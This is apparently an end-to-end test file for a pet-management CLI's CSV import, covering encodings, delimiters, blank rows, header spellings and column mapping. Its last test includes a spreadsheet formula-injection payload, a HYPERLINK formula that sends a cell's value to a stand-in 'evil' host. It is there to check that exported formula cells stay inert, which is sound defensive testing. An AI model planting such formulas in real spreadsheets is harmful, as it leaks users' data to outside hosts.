import { describe, expect, it } from 'vitest';
import { expectCleanError, setupE2e } from '../helpers/cli';
import { creator } from '../helpers/pet-creator';
import type { RecordedRequest } from '../helpers/scripted-server';
import { postedNames, writeInput } from '../helpers/import-run';

/**
 * What spreadsheets really save, imported end to end: the built binary against a scripted server
 * that creates animals, checked on the names the server received, byte for byte.
 */

/** Excel's "CSV" on Windows: windows-1252, CRLF. */
const CP1252 = Buffer.from('name,categoryId,status\r\nZo\xeb Caf\xe9,2,available\r\nRex,1,\r\n', 'latin1');

const utf16 = (text: string, bigEndian: boolean) => {
  const bytes = Buffer.from(`\ufeff${text}`, 'utf16le');
  return bigEndian ? bytes.swap16() : bytes;
};

describe.concurrent('pets add --file: what spreadsheets save', () => {
  it('a windows-1252 file is refused at its first byte that is not UTF-8, nothing sent, exit 6, even with --skip-invalid; --encoding windows-1252 sends "Zoë Café" exactly', async (t) => {
    const { server, configDir, petctl } = await setupE2e(t, creator());
    const file = writeInput(configDir, 'cp.csv', CP1252);

    for (const extra of [[], ['--skip-invalid']]) {
      const refused = await petctl(['pets', 'add', '--file', file, ...extra]);
      expect(refused.code).toBe(6);
      expectCleanError(refused);
      expect(refused.stderr).toBe('error: line 2 (row 1): not UTF-8 (byte 0xEB); save the file as "CSV UTF-8", or give --encoding windows-1252 (invalid_input)\n');
    }
    expect(server.requests).toHaveLength(0);

    const read = await petctl(['pets', 'add', '--file', file, '--encoding', 'windows-1252']);
    expect(read.code, read.stderr).toBe(0);
    expect(postedNames(server.requests)).toEqual(['Zoë Café', 'Rex']);
    expect(server.requests[0]!.bodyBytes.toString('utf8')).toBe('{"name":"Zoë Café","categoryId":2,"status":"available"}');

    // The same file with the same flags is the same input: the rerun sends nothing again.
    const again = await petctl(['pets', 'add', '--file', file, '--encoding', 'windows-1252']);
    expect(again.code, again.stderr).toBe(0);
    expect(again.stderr).toMatch(/^created 0, skipped 2, /m);
    expect(server.requests).toHaveLength(2);
  });

  it('UTF-16 that breaks (a lone surrogate) is refused at its line and row, nothing sent', async (t) => {
    const { server, configDir, petctl } = await setupE2e(t, creator());
    const bytes = utf16('name,categoryId\nA,1\nB\ud800,2\n', false);
    const file = writeInput(configDir, 'broken.csv', bytes);
    const result = await petctl(['pets', 'add', '--file', file]);
    expect(result.code).toBe(6);
    expect(result.stderr).toMatch(/^error: line 3 \(row 2\): not UTF-16LE: a broken character .*\(invalid_input\)\n$/);
    expect(server.requests).toHaveLength(0);
  });

  it('a ;-separated export: the header decides, quoted fields keep their ; and , ; rows of empty fields (;;;) are skipped and counted nowhere', async (t) => {
    const { server, configDir, petctl } = await setupE2e(t, creator());
    const csv = 'Name;CategoryId;Status;Notes\r\n"Rex; the dog";1;available;"big, brown"\r\n;;;\r\n"Mia, ""cat""";2;;\r\n ; ;  ;\r\n;;;\r\n';
    const file = writeInput(configDir, 'europe.csv', csv);

    const result = await petctl(['pets', 'add', '--file', file, '-o', 'ndjson']);
    expect(result.code, result.stderr).toBe(0);
    expect(postedNames(server.requests)).toEqual(['Rex; the dog', 'Mia, "cat"']);
    const rows = result.stdout.trim().split('\n').map((line) => JSON.parse(line) as { row: number; line: number });
    expect(rows.map((row) => [row.row, row.line])).toEqual([[1, 2], [2, 4]]);
    expect(result.stderr).toMatch(/^created 2, skipped 0, rejected 0, invalid 0, unknown 0 in /m);

    // --delimiter overrides the header's rule: read as commas, the header is one column, and the error says what to try.
    const forced = await petctl(['pets', 'add', '--file', file, '--delimiter', ',']);
    expect(forced.code).toBe(6);
    expect(forced.stderr).toContain('the CSV header lacks name and categoryId; expected name,categoryId,status; if its columns are separated by another character, give it with --delimiter');
    expect(server.requests).toHaveLength(2);
  });

  it('--delimiter takes any one character, or tab', async (t) => {
    const { server, configDir, petctl } = await setupE2e(t, creator());
    const piped = writeInput(configDir, 'piped.csv', 'name|categoryId\nRex, Jr.|1\n');
    const tabbed = writeInput(configDir, 'tabbed.csv', 'name\tcategoryId\tnotes, more\nMia\t2\ta, b\n');
    expect((await petctl(['pets', 'add', '--file', piped, '--delimiter', '|'])).code).toBe(0);
    // A header with a comma is comma-separated by the rule; --delimiter tab says otherwise.
    const tab = await petctl(['pets', 'add', '--file', tabbed, '--delimiter', 'tab']);
    expect(tab.code, tab.stderr).toBe(0);
    expect(tab.stderr).toContain('ignoring columns: notes, more');
    expect(postedNames(server.requests)).toEqual(['Rex, Jr.', 'Mia']);
  });

  it("Excel's empty rows (,,, and cells of spaces) are skipped as blank lines are: no row number, no error; --skip-invalid reruns end 0", async (t) => {
    const { server, configDir, petctl } = await setupE2e(t, creator());
    const file = writeInput(configDir, 'padded.csv', 'name,categoryId,status\r\nRex,1,available\r\n,,\r\n  ,   ,\r\n"",,""\r\nMia,2,\r\n,,\r\n,,\r\n');

    for (const run of [1, 2]) {
      const result = await petctl(['pets', 'add', '--file', file, '--skip-invalid', '-o', 'ndjson']);
      expect(result.code, `run ${run}: ${result.stderr}`).toBe(0);
      const rows = result.stdout.trim().split('\n').map((line) => JSON.parse(line) as { row: number; line: number });
      expect(rows.map((row) => [row.row, row.line])).toEqual([[1, 2], [2, 6]]);
      expect(result.stderr).toMatch(run === 1 ? /^created 2, skipped 0, rejected 0, invalid 0, /m : /^created 0, skipped 2, rejected 0, invalid 0, /m);
    }
    expect(postedNames(server.requests)).toEqual(['Rex', 'Mia']);

    const dry = await petctl(['pets', 'add', '--file', file, '--dry-run', '-o', 'json']);
    expect(dry.code, dry.stderr).toBe(0);
    expect(JSON.parse(dry.stdout)).toMatchObject({ rows: 2, valid: 2, invalid: 0 });
  });
});

/** The bodies the server received, as sent. */
function bodies(requests: RecordedRequest[]): string[] {
  return requests.filter((r) => r.method === 'POST').map((r) => r.bodyBytes.toString('utf8'));
}

describe.concurrent('pets add --file: headers as people write them, --column, and cells that stay text', () => {
  it("Excel's `Name,Category Id,Status` and its other spellings create the animals with their fields", async (t) => {
    const { server, configDir, petctl } = await setupE2e(t, creator());
    const headers = ['Name,Category Id,Status', 'NAME,CATEGORY ID,STATUS', 'name,category_id,status', 'Name,CategoryId,Status'];
    for (const [index, header] of headers.entries()) {
      const result = await petctl(['pets', 'add', '--file', writeInput(configDir, `h${index}.csv`, `${header}\r\nRex ${index},${index + 3},Pending\r\n`)]);
      expect(result.code, result.stderr).toBe(0);
      expect(result.stderr).not.toContain('ignoring columns');
    }
    expect(bodies(server.requests)).toEqual(headers.map((_, index) => `{"name":"Rex ${index}","categoryId":${index + 3},"status":"pending"}`));
  });

  it('a header --column names that the file lacks: exit 6, the header and the file\'s headers named, nothing sent; bad --column values exit 2', async (t) => {
    const { server, configDir, petctl } = await setupE2e(t, creator());
    const file = writeInput(configDir, 'cat.csv', 'Name,Cat,Status\nRex,1,sold\n');
    const missing = await petctl(['pets', 'add', '--file', file, '--column', 'categoryId=Category']);
    expect(missing.code).toBe(6);
    expectCleanError(missing);
    expect(missing.stderr).toBe('error: line 1: the CSV header has no column "Category" (--column categoryId=Category); its columns: Name,Cat,Status (invalid_input)\n');
    // The other bad --column values are refused where argv is parsed (test/commands/parsing.test.ts).
    const json = await petctl(['pets', 'add', '--file', file, '--format', 'ndjson', '--column', 'name=Name']);
    expect(json.code).toBe(2);
    expect(json.stderr.split('\n')[0]).toBe('error: --column applies to CSV headers, not ndjson input (usage_error)');
    // The loose field names of --column: `category_id=Cat` is categoryId.
    const mapped = await petctl(['pets', 'add', '--file', file, '--column', 'category_id=Cat']);
    expect(mapped.code, mapped.stderr).toBe(0);
    expect(bodies(server.requests)).toEqual(['{"name":"Rex","categoryId":1,"status":"sold"}']);
  });

  it("cells stay text: the ' that -o csv writes before =, +, -, @, a tab or a CR is dropped, so the names arrive exact; 'Tis stays", async (t) => {
    const names = ['=HYPERLINK("http://evil/?x="&A1,"click")', '-2+3', '+1', '@SUM(1+1)', "'Tis", "''=x"];
    const { server, configDir, petctl } = await setupE2e(t, creator({ list: { existing: [] } }));
    // As -o csv writes them: RFC 4180 quoting, and a ' before a formula's first character.
    const written = names.map((name) => (/^[=+\-@\t\r]/.test(name) ? `'${name}` : name)).map((cell) => `"${cell.replaceAll('"', '""')}",1,`);
    const file = writeInput(configDir, 'round.csv', ['name,categoryId,status', ...written, ''].join('\r\n'));
    const imported = await petctl(['pets', 'add', '--file', file]);
    expect(imported.code, imported.stderr).toBe(0);
    // Up to 4 requests in flight: in any order.
    expect(bodies(server.requests).map((body) => (JSON.parse(body) as { name: string }).name).sort()).toEqual([...names].sort());

    // Through petctl and back: the list as -o csv, imported into a second service, arrives as it left.
    const listed = await petctl(['pets', 'list', '--all', '-o', 'csv']);
    expect(listed.code, listed.stderr).toBe(0);
    const other = await setupE2e(t, creator());
    const again = await other.petctl(['pets', 'add', '--file', writeInput(configDir, 'listed.csv', listed.stdout)]);
    expect(again.code, again.stderr).toBe(0);
    expect(bodies(other.server.requests).map((body) => (JSON.parse(body) as { name: string }).name).sort()).toEqual([...names].sort());
  });
});
